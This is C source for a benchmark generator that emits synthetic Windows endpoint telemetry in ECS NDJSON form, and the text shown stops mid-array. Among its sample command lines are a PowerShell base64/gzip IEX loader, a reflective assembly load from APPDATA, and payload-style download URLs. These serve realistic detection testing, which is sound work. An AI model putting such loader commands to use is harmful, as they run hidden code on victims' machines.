/*
 * gen_ecs.c - deterministic generator of Elastic-Defend-shaped ECS NDJSON.
 *
 *   gen_ecs BYTES [SEED]
 *
 * Writes one JSON event per line to stdout until at least BYTES bytes have
 * been written (it stops at the first event boundary at or past BYTES).
 * BYTES may carry a K, M or G suffix (powers of 1000). SEED defaults to 42.
 *
 * Everything comes from one xoshiro256** stream seeded with splitmix64(SEED);
 * nothing reads the clock, the environment or addresses, and all arithmetic is
 * on fixed-width integers, so the same BYTES and SEED give byte-identical
 * output. A larger BYTES with the same SEED yields the same events, only more
 * of them: the smaller output is a byte prefix of the larger one.
 *
 * The data imitates Windows endpoint telemetry: a fleet of hosts, each with a
 * table of live processes (name, path, signer, command line, parent, user).
 * Every event is emitted by one of those processes; process events respawn a
 * slot. Roughly half of the events carry process.thread.Ext.call_stack, built
 * from an OS-API "top" chosen by what the event did (file create, registry
 * write, VirtualProtect, ...) followed by a runtime template chosen by the
 * process (native, .NET, PowerShell, RPC, COM, WMI, VBA, VBScript, JScript,
 * Python, Java, V8, shellcode, direct and indirect syscalls).
 *
 * Build: cc -O2 -std=c11 -Wall -Wextra -o gen_ecs bench/gen_ecs.c
 */
#include <errno.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#define NELEM(a) (sizeof(a) / sizeof((a)[0]))

/* ------------------------------------------------------------------ PRNG */

static uint64_t rs[4];

static uint64_t splitmix64(uint64_t *x)
{
    uint64_t z = (*x += 0x9e3779b97f4a7c15ULL);
    z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ULL;
    z = (z ^ (z >> 27)) * 0x94d049bb133111ebULL;
    return z ^ (z >> 31);
}

static void rseed(uint64_t s)
{
    for (int i = 0; i < 4; i++) rs[i] = splitmix64(&s);
}

static inline uint64_t rotl64(uint64_t x, int k)
{
    return (x << k) | (x >> (64 - k));
}

static inline uint64_t rnext(void)
{
    uint64_t r = rotl64(rs[1] * 5, 7) * 9;
    uint64_t t = rs[1] << 17;
    rs[2] ^= rs[0];
    rs[3] ^= rs[1];
    rs[1] ^= rs[2];
    rs[0] ^= rs[3];
    rs[2] ^= t;
    rs[3] = rotl64(rs[3], 45);
    return r;
}

/* uniform in [0, n) */
static inline uint32_t rbelow(uint32_t n)
{
    return (uint32_t)(((rnext() >> 32) * (uint64_t)n) >> 32);
}
static inline uint32_t rrange(uint32_t lo, uint32_t hi)
{
    return lo + rbelow(hi - lo + 1);
}
static inline int rpct(uint32_t p)
{
    return rbelow(100) < p;
}
#define RPICK(a) ((a)[rbelow((uint32_t)NELEM(a))])

/* stable 64-bit hash of a string (used for per-path hashes and RVAs) */
static uint64_t fnv1a(const char *s)
{
    uint64_t h = 0xcbf29ce484222325ULL;
    while (*s) h = (h ^ (unsigned char)*s++) * 0x100000001b3ULL;
    return h;
}

/* --------------------------------------------------------- JSON writing */

static char *wp; /* write cursor into the per-event scratch buffer */

static inline void wput(const char *s, size_t n)
{
    memcpy(wp, s, n);
    wp += n;
}
#define L(s) wput(s, sizeof(s) - 1)
#define K(k) L("\"" k "\":")
static inline void wch(char c)
{
    *wp++ = c;
}

static const char HEXL[] = "0123456789abcdef";
static const char HEXU[] = "0123456789ABCDEF";

static void wjs_n(const char *s, size_t n)
{
    *wp++ = '"';
    for (size_t i = 0; i < n; i++) {
        unsigned char c = (unsigned char)s[i];
        if (c == '"' || c == '\\') {
            *wp++ = '\\';
            *wp++ = (char)c;
        } else if (c < 0x20) {
            *wp++ = '\\';
            if (c == '\n')
                *wp++ = 'n';
            else if (c == '\t')
                *wp++ = 't';
            else if (c == '\r')
                *wp++ = 'r';
            else {
                wput("u00", 3);
                *wp++ = HEXL[c >> 4];
                *wp++ = HEXL[c & 15];
            }
        } else
            *wp++ = (char)c;
    }
    *wp++ = '"';
}
static inline void wjs(const char *s)
{
    wjs_n(s, strlen(s));
}

static void wu64(uint64_t v)
{
    char t[24];
    int i = 0;
    do {
        t[i++] = (char)('0' + v % 10);
        v /= 10;
    } while (v);
    while (i) *wp++ = t[--i];
}

static void whex(uint64_t v) /* lower-case, no prefix */
{
    char t[17];
    int i = 0;
    do {
        t[i++] = HEXL[v & 15];
        v >>= 4;
    } while (v);
    while (i) *wp++ = t[--i];
}

/* random lower hex of n digits into d (no NUL) */
static void rhex(char *d, int n, const char *alpha)
{
    uint64_t r = 0;
    for (int i = 0; i < n; i++) {
        if ((i & 15) == 0) r = rnext();
        d[i] = alpha[r & 15];
        r >>= 4;
    }
}

static const char B64[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";

static size_t b64enc(char *d, const unsigned char *s, size_t n)
{
    size_t o = 0, i = 0;
    for (; i + 2 < n; i += 3) {
        uint32_t v = (uint32_t)s[i] << 16 | (uint32_t)s[i + 1] << 8 | s[i + 2];
        d[o++] = B64[v >> 18];
        d[o++] = B64[(v >> 12) & 63];
        d[o++] = B64[(v >> 6) & 63];
        d[o++] = B64[v & 63];
    }
    if (i < n) {
        uint32_t v = (uint32_t)s[i] << 16 | (i + 1 < n ? (uint32_t)s[i + 1] << 8 : 0);
        d[o++] = B64[v >> 18];
        d[o++] = B64[(v >> 12) & 63];
        d[o++] = i + 1 < n ? B64[(v >> 6) & 63] : '=';
        d[o++] = '=';
    }
    d[o] = 0;
    return o;
}

/* ------------------------------------------------------------ time */

/* time in 100 ns ticks since the Unix epoch */
static uint64_t now_ticks;
#define TICKS_PER_SEC   10000000ULL
#define EPOCH_1601_SECS 11644473600ULL

static void civil(int64_t z, int *y, unsigned *m, unsigned *d)
{
    /* days since 1970-01-01 -> y/m/d (H. Hinnant's algorithm) */
    z += 719468;
    int64_t era = (z >= 0 ? z : z - 146096) / 146097;
    unsigned doe = (unsigned)(z - era * 146097);
    unsigned yoe = (doe - doe / 1460 + doe / 36524 - doe / 146096) / 365;
    int64_t yy = (int64_t)yoe + era * 400;
    unsigned doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    unsigned mp = (5 * doy + 2) / 153;
    *d = doy - (153 * mp + 2) / 5 + 1;
    *m = mp < 10 ? mp + 3 : mp - 9;
    *y = (int)(yy + (*m <= 2));
}

static void w2(unsigned v)
{
    *wp++ = (char)('0' + v / 10);
    *wp++ = (char)('0' + v % 10);
}

static void wts(uint64_t t) /* "2024-06-03T07:00:00.1234567Z" with quotes */
{
    uint64_t secs = t / TICKS_PER_SEC, frac = t % TICKS_PER_SEC;
    int y;
    unsigned mo, d, sod = (unsigned)(secs % 86400);
    civil((int64_t)(secs / 86400), &y, &mo, &d);
    *wp++ = '"';
    w2((unsigned)y / 100);
    w2((unsigned)y % 100);
    *wp++ = '-';
    w2(mo);
    *wp++ = '-';
    w2(d);
    *wp++ = 'T';
    w2(sod / 3600);
    *wp++ = ':';
    w2(sod / 60 % 60);
    *wp++ = ':';
    w2(sod % 60);
    *wp++ = '.';
    for (int i = 6; i >= 0; i--) {
        wp[i] = (char)('0' + frac % 10);
        frac /= 10;
    }
    wp += 7;
    L("Z\"");
}

/* ------------------------------------------------------- static pools */

static const char *const FIRSTUSERS[] = {
    "jsmith",        "mgarcia",    "akowalski", "lchen",     "rpatel",    "dnguyen",
    "kmueller",      "sjohnson",   "tbrown",    "ewilson",   "opetrov",   "hkim",
    "mrossi",        "jlee",       "bmartin",   "cdavis",    "fnakamura", "ylevy",
    "pdubois",       "asilva",     "nschmidt",  "vmorales",  "gwright",   "itanaka",
    "admin-jmorgan", "svc_backup", "devops01",  "qa.tester", "wjackson",  "mthompson"};
static const char *const DEPTS[] = {"FIN", "HR",  "ENG", "OPS", "MKT",
                                    "LEG", "SAL", "IT",  "RND", "SEC"};
static const char *const ROLES[] = {"SQL", "APP", "FS", "WEB", "RDS", "EXCH", "BLD", "PRT"};
static const char *const PROJECTS[] = {
    "billing-api", "inventory",    "webportal",     "etl-jobs",    "mobile-backend",
    "reporting",   "auth-service", "data-pipeline", "infra-tools", "ml-models"};
static const char *const VENDORS[] = {"Contoso", "Fabrikam", "Northwind",          "AdventureWorks",
                                      "Litware", "Tailspin", "WideWorldImporters", "Proseware"};
static const char *const VENDORS_LC[] = {
    "contoso", "fabrikam", "northwind",          "adventureworks",
    "litware", "tailspin", "wideworldimporters", "proseware"};
static const char *const TOOLS[] = {"sync",        "backup", "inventory", "update-check",
                                    "cleanup",     "report", "collect",   "deploy",
                                    "healthcheck", "agent",  "migrate",   "rotate-logs"};
static const char *const DOCS[] = {
    "Q3 Budget Review",      "Invoice_88213",       "Onboarding Checklist", "Contract Draft v7",
    "Board Minutes 2024-05", "Payroll Adjustments", "Project Plan",         "Shipping Notice",
    "Resume - J Doe",        "Security Awareness",  "Vendor Agreement",     "Meeting Notes"};
static const char *const SERVICES[] = {
    "Schedule", "BITS",     "wuauserv",       "Dnscache",       "LanmanServer", "WinRM",
    "Spooler",  "EventLog", "TermService",    "W32Time",        "WSearch",      "CryptSvc",
    "gpsvc",    "Appinfo",  "seclogon",       "RemoteRegistry", "MpsSvc",       "sppsvc",
    "VSS",      "AgentSvc", "ContosoUpdater", "PSEXESVC"};
static const char *const SVCDLLS[] = {"schedsvc", "qmgr",    "wuaueng",  "dnsrslvr",
                                      "srvsvc",   "wsmsvc",  "termsrv",  "w32time",
                                      "gpsvc",    "appinfo", "seclogon", "regsvc"};
static const char *const SVCGROUPS[] = {"netsvcs",
                                        "LocalService",
                                        "LocalServiceNetworkRestricted",
                                        "NetworkService",
                                        "LocalSystemNetworkRestricted",
                                        "DcomLaunch",
                                        "RPCSS",
                                        "UnistackSvcGroup",
                                        "wsappx",
                                        "appmodel"};
static const char *const URLS[] = {
    "https://raw.githubusercontent.com/contoso-it/scripts/main/bootstrap.ps1",
    "http://198.51.100.23:8080/a.ps1",
    "https://cdn.fabrikam.example/update/stage2.bin",
    "https://download.northwind.example/tools/inventory.zip",
    "https://203.0.113.77/payload.hta",
    "https://files.litware.example/share/Q3_report.docm",
    "http://192.0.2.44/dl/update.exe"};
static const char *const PYSCRIPTS[] = {"main",    "etl_run", "train",      "collect_metrics",
                                        "sync_s3", "app",     "scan_hosts", "build_report",
                                        "loader",  "manage"};
static const char *const PS_SCRIPTS[] = {
    "Get-ChildItem -Path $env:ProgramData -Recurse -Filter *.log | Where-Object { $_.LastWriteTime "
    "-lt "
    "(Get-Date).AddDays(-30) } | Remove-Item -Force -ErrorAction SilentlyContinue",
    "$s=New-Object "
    "IO.MemoryStream(,[Convert]::FromBase64String('"
    "H4sIAAAAAAAEAKtWKkotLs1RslIqS8wpTVWqBQBmA9nqFAAAAA=='));"
    "IEX (New-Object IO.StreamReader(New-Object "
    "IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]::"
    "Decompress))).ReadToEnd()",
    "Get-CimInstance -ClassName Win32_QuickFixEngineering | Sort-Object InstalledOn -Descending | "
    "Select-Object -First 20 | ConvertTo-Json -Compress",
    "Set-MpPreference -DisableRealtimeMonitoring $false; Update-MpSignature -UpdateSource "
    "MicrosoftUpdateServer",
    "[System.Reflection.Assembly]::Load([IO.File]::ReadAllBytes(\"$env:APPDATA\\helper.dll\"))."
    "GetType("
    "'Helper.Loader').GetMethod('Run').Invoke($null,@())",
    "Get-ScheduledTask | Where-Object {$_.State -ne 'Disabled'} | Select-Object TaskName,State",
    "whoami /groups; Get-LocalGroupMember Administrators"};
static char *ps_encoded[NELEM(PS_SCRIPTS)];

/* ------------------------------------------------------------ modules */

enum {
    M_NTDLL,
    M_KERNELBASE,
    M_KERNEL32,
    M_USER32,
    M_WIN32U,
    M_MSWSOCK,
    M_WS2_32,
    M_ADVAPI32,
    M_RPCRT4,
    M_COMBASE,
    M_OLE32,
    M_OLEAUT32,
    M_UCRTBASE,
    M_SHELL32,
    M_WSTORAGE,
    M_SHCORE,
    M_SECHOST,
    M_WININET,
    M_CLR,
    M_CLRJIT,
    M_MSCOREEI,
    M_MSCOREE,
    M_MSCORLIB_NI,
    M_SYSTEM_NI,
    M_SYSCORE_NI,
    M_SMA_NI,
    M_CONSOLEHOST_NI, /* per-host hashed paths */
    M_CORECLR_PS,
    M_SPCL_PS,
    M_SMA_PS,
    M_HOSTFXR_PS,
    M_HOSTPOLICY_PS,
    M_CORECLR_DN,
    M_SPCL_DN,
    M_HOSTFXR_DN,
    M_HOSTPOLICY_DN,
    M_FRAMEDYNOS,
    M_CIMWIN32,
    M_WMIPRVSD,
    M_FASTPROX,
    M_VBE7,
    M_WWLIB,
    M_MSO,
    M_VBSCRIPT,
    M_WSHOM,
    M_JSCRIPT9,
    M_MSHTML,
    M_SCROBJ,
    M_PYTHON311,
    M_CTYPES,
    M_LIBFFI,
    M_VCRUNTIME,
    M_JVM,
    M_JAVADLL,
    M_JNET,
    /* service / COM server modules (selected per process) */
    M_SVC_SCHEDSVC,
    M_SVC_QMGR,
    M_SVC_DNSRSLVR,
    M_SVC_LSASRV,
    M_SVC_LOCALSPL,
    M_SVC_GPSVC,
    M_SVC_APPINFO,
    M_SVC_TERMSRV,
    M_COM_THUMBCACHE,
    M_COM_WINDOWSCODECS,
    M_COM_PHOTOMETA,
    M_COM_SHELL32,
    M_COUNT,
    /* pseudo modules, resolved per event */
    M_APP = 200,
    M_SVC,
    M_UNBACKED,
    M_UNKNOWN
};
#define NI_FIRST M_MSCORLIB_NI
#define NI_COUNT 5

enum {
    SG_NONE,
    SG_MSWIN,
    SG_MSCORP,
    SG_PSF,
    SG_ORACLE,
    SG_OPENJS,
    SG_GOOGLE,
    SG_MOZILLA,
    SG_SLACK,
    SG_ZOOM
};
static const char *const SIGNERS[] = {NULL,
                                      "Microsoft Windows",
                                      "Microsoft Corporation",
                                      "Python Software Foundation",
                                      "Oracle America, Inc.",
                                      "OpenJS Foundation",
                                      "Google LLC",
                                      "Mozilla Corporation",
                                      "Slack Technologies, LLC",
                                      "Zoom Video Communications, Inc."};

typedef struct {
    const char *path; /* lower case, as in symbol_info; NI entries hold the part before the hash */
    uint8_t signer;
    const char *name; /* file name, derived at init */
} module;

static module MODS[M_COUNT] = {
    [M_NTDLL] = {"c:\\windows\\system32\\ntdll.dll", SG_MSWIN, 0},
    [M_KERNELBASE] = {"c:\\windows\\system32\\kernelbase.dll", SG_MSWIN, 0},
    [M_KERNEL32] = {"c:\\windows\\system32\\kernel32.dll", SG_MSWIN, 0},
    [M_USER32] = {"c:\\windows\\system32\\user32.dll", SG_MSWIN, 0},
    [M_WIN32U] = {"c:\\windows\\system32\\win32u.dll", SG_MSWIN, 0},
    [M_MSWSOCK] = {"c:\\windows\\system32\\mswsock.dll", SG_MSWIN, 0},
    [M_WS2_32] = {"c:\\windows\\system32\\ws2_32.dll", SG_MSWIN, 0},
    [M_ADVAPI32] = {"c:\\windows\\system32\\advapi32.dll", SG_MSWIN, 0},
    [M_RPCRT4] = {"c:\\windows\\system32\\rpcrt4.dll", SG_MSWIN, 0},
    [M_COMBASE] = {"c:\\windows\\system32\\combase.dll", SG_MSWIN, 0},
    [M_OLE32] = {"c:\\windows\\system32\\ole32.dll", SG_MSWIN, 0},
    [M_OLEAUT32] = {"c:\\windows\\system32\\oleaut32.dll", SG_MSWIN, 0},
    [M_UCRTBASE] = {"c:\\windows\\system32\\ucrtbase.dll", SG_MSWIN, 0},
    [M_SHELL32] = {"c:\\windows\\system32\\shell32.dll", SG_MSWIN, 0},
    [M_WSTORAGE] = {"c:\\windows\\system32\\windows.storage.dll", SG_MSWIN, 0},
    [M_SHCORE] = {"c:\\windows\\system32\\shcore.dll", SG_MSWIN, 0},
    [M_SECHOST] = {"c:\\windows\\system32\\sechost.dll", SG_MSWIN, 0},
    [M_WININET] = {"c:\\windows\\system32\\wininet.dll", SG_MSWIN, 0},
    [M_CLR] = {"c:\\windows\\microsoft.net\\framework64\\v4.0.30319\\clr.dll", SG_MSCORP, 0},
    [M_CLRJIT] = {"c:\\windows\\microsoft.net\\framework64\\v4.0.30319\\clrjit.dll", SG_MSCORP, 0},
    [M_MSCOREEI] = {"c:\\windows\\microsoft.net\\framework64\\v4.0.30319\\mscoreei.dll", SG_MSCORP,
                    0},
    [M_MSCOREE] = {"c:\\windows\\system32\\mscoree.dll", SG_MSWIN, 0},
    [M_MSCORLIB_NI] =
        {"c:\\windows\\assembly\\nativeimages_v4.0.30319_64\\mscorlib\\|\\mscorlib.ni.dll", SG_NONE,
         0},
    [M_SYSTEM_NI] = {"c:\\windows\\assembly\\nativeimages_v4.0.30319_64\\system\\|\\system.ni.dll",
                     SG_NONE, 0},
    [M_SYSCORE_NI] =
        {"c:\\windows\\assembly\\nativeimages_v4.0.30319_64\\system.core\\|\\system.core.ni.dll",
         SG_NONE, 0},
    [M_SMA_NI] = {"c:\\windows\\assembly\\nativeimages_v4.0.30319_64\\system.manaa57fc8cc#\\|\\"
                  "system.management.automation.ni.dll",
                  SG_NONE, 0},
    [M_CONSOLEHOST_NI] =
        {"c:\\windows\\assembly\\nativeimages_v4.0.30319_64\\microsoft.pb378ec07#\\|\\"
         "microsoft.powershell.consolehost.ni.dll",
         SG_NONE, 0},
    [M_CORECLR_PS] = {"c:\\program files\\powershell\\7\\coreclr.dll", SG_MSCORP, 0},
    [M_SPCL_PS] = {"c:\\program files\\powershell\\7\\system.private.corelib.dll", SG_MSCORP, 0},
    [M_SMA_PS] = {"c:\\program files\\powershell\\7\\system.management.automation.dll", SG_MSCORP,
                  0},
    [M_HOSTFXR_PS] = {"c:\\program files\\powershell\\7\\hostfxr.dll", SG_MSCORP, 0},
    [M_HOSTPOLICY_PS] = {"c:\\program files\\powershell\\7\\hostpolicy.dll", SG_MSCORP, 0},
    [M_CORECLR_DN] =
        {"c:\\program files\\dotnet\\shared\\microsoft.netcore.app\\8.0.4\\coreclr.dll", SG_MSCORP,
         0},
    [M_SPCL_DN] =
        {"c:\\program "
         "files\\dotnet\\shared\\microsoft.netcore.app\\8.0.4\\system.private.corelib.dll",
         SG_MSCORP, 0},
    [M_HOSTFXR_DN] = {"c:\\program files\\dotnet\\host\\fxr\\8.0.4\\hostfxr.dll", SG_MSCORP, 0},
    [M_HOSTPOLICY_DN] =
        {"c:\\program files\\dotnet\\shared\\microsoft.netcore.app\\8.0.4\\hostpolicy.dll",
         SG_MSCORP, 0},
    [M_FRAMEDYNOS] = {"c:\\windows\\system32\\framedynos.dll", SG_MSWIN, 0},
    [M_CIMWIN32] = {"c:\\windows\\system32\\wbem\\cimwin32.dll", SG_MSWIN, 0},
    [M_WMIPRVSD] = {"c:\\windows\\system32\\wbem\\wmiprvsd.dll", SG_MSWIN, 0},
    [M_FASTPROX] = {"c:\\windows\\system32\\wbem\\fastprox.dll", SG_MSWIN, 0},
    [M_VBE7] = {"c:\\program files\\common files\\microsoft shared\\vba\\vba7.1\\vbe7.dll",
                SG_MSCORP, 0},
    [M_WWLIB] = {"c:\\program files\\microsoft office\\root\\office16\\wwlib.dll", SG_MSCORP, 0},
    [M_MSO] = {"c:\\program files\\common files\\microsoft shared\\office16\\mso.dll", SG_MSCORP,
               0},
    [M_VBSCRIPT] = {"c:\\windows\\system32\\vbscript.dll", SG_MSWIN, 0},
    [M_WSHOM] = {"c:\\windows\\system32\\wshom.ocx", SG_MSWIN, 0},
    [M_JSCRIPT9] = {"c:\\windows\\system32\\jscript9.dll", SG_MSWIN, 0},
    [M_MSHTML] = {"c:\\windows\\system32\\mshtml.dll", SG_MSWIN, 0},
    [M_SCROBJ] = {"c:\\windows\\system32\\scrobj.dll", SG_MSWIN, 0},
    [M_PYTHON311] = {"c:\\program files\\python311\\python311.dll", SG_PSF, 0},
    [M_CTYPES] = {"c:\\program files\\python311\\dlls\\_ctypes.pyd", SG_PSF, 0},
    [M_LIBFFI] = {"c:\\program files\\python311\\dlls\\libffi-8.dll", SG_PSF, 0},
    [M_VCRUNTIME] = {"c:\\program files\\python311\\vcruntime140.dll", SG_MSCORP, 0},
    [M_JVM] = {"c:\\program files\\java\\jdk-17\\bin\\server\\jvm.dll", SG_ORACLE, 0},
    [M_JAVADLL] = {"c:\\program files\\java\\jdk-17\\bin\\java.dll", SG_ORACLE, 0},
    [M_JNET] = {"c:\\program files\\java\\jdk-17\\bin\\net.dll", SG_ORACLE, 0},
    [M_SVC_SCHEDSVC] = {"c:\\windows\\system32\\schedsvc.dll", SG_MSWIN, 0},
    [M_SVC_QMGR] = {"c:\\windows\\system32\\qmgr.dll", SG_MSWIN, 0},
    [M_SVC_DNSRSLVR] = {"c:\\windows\\system32\\dnsrslvr.dll", SG_MSWIN, 0},
    [M_SVC_LSASRV] = {"c:\\windows\\system32\\lsasrv.dll", SG_MSWIN, 0},
    [M_SVC_LOCALSPL] = {"c:\\windows\\system32\\localspl.dll", SG_MSWIN, 0},
    [M_SVC_GPSVC] = {"c:\\windows\\system32\\gpsvc.dll", SG_MSWIN, 0},
    [M_SVC_APPINFO] = {"c:\\windows\\system32\\appinfo.dll", SG_MSWIN, 0},
    [M_SVC_TERMSRV] = {"c:\\windows\\system32\\termsrv.dll", SG_MSWIN, 0},
    [M_COM_THUMBCACHE] = {"c:\\windows\\system32\\thumbcache.dll", SG_MSWIN, 0},
    [M_COM_WINDOWSCODECS] = {"c:\\windows\\system32\\windowscodecs.dll", SG_MSWIN, 0},
    [M_COM_PHOTOMETA] = {"c:\\windows\\system32\\photometadatahandler.dll", SG_MSWIN, 0},
    [M_COM_SHELL32] = {"c:\\windows\\system32\\shell32.dll", SG_MSWIN, 0},
};
static size_t MODLEN[M_COUNT];

/* ----------------------------------------------------- stack templates */

enum { FO = 1, FR2 = 2, FR3 = 4, FNS = 8, FCS = 16, FSC = 32, FO30 = 64 };
/* FO optional (50%), FO30 optional (30%), FR2/FR3 repeat 1..2/1..3, FNS never symbolised,
   FCS unbacked frame that may carry callsite bytes, FSC syscall site (leading bytes end in syscall)
 */

typedef struct {
    uint8_t mod, fl;
    const char *sym;
    uint16_t off;
} fspec;

enum { TOP_FULL, TOP_STUB, TOP_NONE };
enum { PV_NONE, PV_CLR, PV_CORECLR, PV_JVM, PV_APP, PV_JS9 };

typedef struct {
    const char *name;
    uint8_t top, prov, prov_pct, rwx_pct;
    const fspec *f;
    uint8_t n;
} tmpl;

#define BOTTOM                                                                                     \
    {M_KERNEL32, 0, "BaseThreadInitThunk", 0x1d},                                                  \
    {                                                                                              \
        M_NTDLL, 0, "RtlUserThreadStart", 0x28                                                     \
    }
#define TPBOTTOM                                                                                   \
    {M_NTDLL, FO30, "TppAlpcpExecuteCallback", 0x14d}, {M_NTDLL, 0, "TppWorkerThread", 0x4fe},     \
        BOTTOM

static const fspec F_NATIVE[] = {{M_APP, FR2 | FNS, 0, 0}, BOTTOM};
static const fspec F_GUI[] = {{M_WSTORAGE, FO30, "CFSFolder::_CreateFileItem", 0x1b4},
                              {M_SHELL32, FO30, 0, 0},
                              {M_APP, FNS, 0, 0},
                              {M_USER32, FO30, "UserCallWinProcCheckWow", 0x2ad},
                              {M_USER32, FO30, "DispatchMessageWorker", 0x1e2},
                              {M_APP, FNS, 0, 0},
                              BOTTOM};
static const fspec F_DOTNET[] = {{M_UNBACKED, FR2 | FCS, 0, 0},
                                 {M_SYSTEM_NI, FO30 | FNS, 0, 0},
                                 {M_MSCORLIB_NI, FO | FR2 | FNS, 0, 0},
                                 {M_CLR, 0, "CallDescrWorkerInternal", 0x83},
                                 {M_CLR, FO30, "CallDescrWorkerWithHandler", 0x4e},
                                 {M_CLR, FO30, "MethodDescCallSite::CallTargetWorker", 0x102},
                                 {M_CLR, FO30, "RunMain", 0x1ab},
                                 {M_CLR, FO30, "Assembly::ExecuteMainMethod", 0x114},
                                 {M_CLR, FO30, "_CorExeMainInternal", 0xb2},
                                 {M_MSCOREEI, FO, "_CorExeMain", 0xfa},
                                 {M_MSCOREE, FO30, "_CorExeMain_Exported", 0x75},
                                 BOTTOM};
static const fspec F_POWERSHELL[] = {{M_UNBACKED, FR2 | FCS, 0, 0},
                                     {M_SMA_NI, FR2 | FNS, 0, 0},
                                     {M_UNBACKED, FO30, 0, 0},
                                     {M_SYSCORE_NI, FO30 | FNS, 0, 0},
                                     {M_MSCORLIB_NI, FO30 | FNS, 0, 0},
                                     {M_SMA_NI, FO30 | FNS, 0, 0},
                                     {M_CLR, 0, "CallDescrWorkerInternal", 0x83},
                                     {M_CLR, FO30, "CallDescrWorkerWithHandler", 0x4e},
                                     {M_CONSOLEHOST_NI, FO30 | FNS, 0, 0},
                                     {M_CLR, FO30, "ExecuteEXE", 0x3f},
                                     {M_MSCOREEI, FO30, "CorExeMain", 0x11},
                                     {M_APP, FO | FNS, 0, 0},
                                     BOTTOM};
static const fspec F_PWSH[] = {{M_UNBACKED, FR2 | FCS, 0, 0},
                               {M_SMA_PS, FR2 | FNS, 0, 0},
                               {M_SPCL_PS, FO30 | FNS, 0, 0},
                               {M_CORECLR_PS, 0, "CallDescrWorkerInternal", 0x83},
                               {M_CORECLR_PS, FO30, "RunMain", 0x16b},
                               {M_HOSTPOLICY_PS, FO30 | FNS, 0, 0},
                               {M_HOSTFXR_PS, FO30 | FNS, 0, 0},
                               {M_APP, FNS, 0, 0},
                               BOTTOM};
static const fspec F_DNCORE[] = {{M_UNBACKED, FR2 | FCS, 0, 0},
                                 {M_SPCL_DN, FO | FNS, 0, 0},
                                 {M_CORECLR_DN, 0, "CallDescrWorkerInternal", 0x83},
                                 {M_CORECLR_DN, FO, "MethodDescCallSite::CallTargetWorker", 0x1a0},
                                 {M_HOSTPOLICY_DN, FO | FNS, 0, 0},
                                 {M_HOSTFXR_DN, FO30 | FNS, 0, 0},
                                 {M_APP, FNS, 0, 0},
                                 BOTTOM};
static const fspec F_RPC[] = {{M_APP, FNS, 0, 0},
                              {M_RPCRT4, 0, "Invoke", 0x73},
                              {M_RPCRT4, FO, "NdrStubCall2", 0x30b},
                              {M_RPCRT4, FO30, "NdrServerCall2", 0x1a},
                              {M_RPCRT4, FO30, "DispatchToStubInCNoAvrf", 0x17},
                              {M_RPCRT4, 0, "RPC_INTERFACE::DispatchToStubWorker", 0x1a6},
                              {M_RPCRT4, FO30, "LRPC_SCALL::DispatchRequest", 0x174},
                              {M_RPCRT4, FO30, "LRPC_SCALL::HandleRequest", 0x871},
                              {M_RPCRT4, FO30, "LRPC_ADDRESS::ProcessIO", 0x939},
                              {M_RPCRT4, FO30, "LrpcIoComplete", 0x109},
                              TPBOTTOM};
static const fspec F_RPC_SVC[] = {{M_SVC, FNS, 0, 0},
                                  {M_RPCRT4, 0, "Invoke", 0x73},
                                  {M_RPCRT4, FO30, "NdrStubCall2", 0x30b},
                                  {M_RPCRT4, FO30, "NdrServerCall2", 0x1a},
                                  {M_RPCRT4, 0, "RPC_INTERFACE::DispatchToStubWorker", 0x1a6},
                                  {M_RPCRT4, FO30, "LRPC_SCALL::DispatchRequest", 0x174},
                                  {M_RPCRT4, FO30, "LRPC_ADDRESS::ProcessIO", 0x939},
                                  {M_RPCRT4, FO30, "LrpcIoComplete", 0x109},
                                  TPBOTTOM};
static const fspec F_COM[] = {{M_SVC, FNS, 0, 0},
                              {M_RPCRT4, 0, "Invoke", 0x73},
                              {M_RPCRT4, FO30, "Ndr64StubWorker", 0x7dd},
                              {M_RPCRT4, FO30, "NdrStubCall3", 0xc6},
                              {M_COMBASE, 0, "CStdStubBuffer_Invoke", 0x59},
                              {M_COMBASE, FO30, "DefaultStubInvoke", 0x18d},
                              {M_COMBASE, FO30, "ServerCall::ContextInvoke", 0x43f},
                              {M_COMBASE, FO, "ComInvokeWithLockAndIPID", 0xa5f},
                              {M_COMBASE, FO30, "ThreadInvoke", 0x5d},
                              {M_RPCRT4, 0, "DispatchToStubInCNoAvrf", 0x17},
                              {M_RPCRT4, FO30, "LRPC_SCALL::DispatchRequest", 0x174},
                              TPBOTTOM};
static const fspec F_WMI[] = {{M_CIMWIN32, FR2 | FNS, 0, 0},
                              {M_FRAMEDYNOS, 0, "Provider::ExecMethod", 0x4a},
                              {M_FRAMEDYNOS, FO, "CWbemProviderGlue::ExecMethodAsync", 0x1f2},
                              {M_WMIPRVSD, FO30 | FNS, 0, 0},
                              {M_APP, FO30 | FNS, 0, 0},
                              {M_RPCRT4, 0, "Invoke", 0x73},
                              {M_COMBASE, FO30, "CStdStubBuffer_Invoke", 0x59},
                              {M_COMBASE, FO30, "ComInvokeWithLockAndIPID", 0xa5f},
                              {M_RPCRT4, FO30, "LRPC_SCALL::DispatchRequest", 0x174},
                              TPBOTTOM};
static const fspec F_VBA_WORD[] = {{M_VBE7, FR2 | FNS, 0, 0},
                                   {M_VBE7, FO, "DllFunctionCall", 0x1d7},
                                   {M_VBE7, FO30 | FNS, 0, 0},
                                   {M_MSO, FO30 | FNS, 0, 0},
                                   {M_WWLIB, FR2 | FNS, 0, 0},
                                   {M_APP, FNS, 0, 0},
                                   BOTTOM};
static const fspec F_VBA_XL[] = {{M_VBE7, FR3 | FNS, 0, 0},
                                 {M_VBE7, FO, "rtcShell", 0xa9},
                                 {M_MSO, FO | FNS, 0, 0},
                                 {M_APP, FR2 | FNS, 0, 0},
                                 BOTTOM};
static const fspec F_VBSCRIPT[] = {{M_WSHOM, FO | FNS, 0, 0},
                                   {M_OLEAUT32, FO, "DispCallFunc", 0x16f},
                                   {M_VBSCRIPT, 0, "CScriptRuntime::RunNoEH", 0x1e3},
                                   {M_VBSCRIPT, FO, "CScriptRuntime::Run", 0xc4},
                                   {M_VBSCRIPT, 0, "CScriptEntryPoint::Call", 0x11e},
                                   {M_VBSCRIPT, FO30, "CSession::Execute", 0x2a4},
                                   {M_VBSCRIPT, FO30, "COleScript::ExecutePendingScripts", 0x14a},
                                   {M_APP, FR2 | FNS, 0, 0},
                                   BOTTOM};
static const fspec F_JSCRIPT9[] = {
    {M_WSHOM, FO30 | FNS, 0, 0},
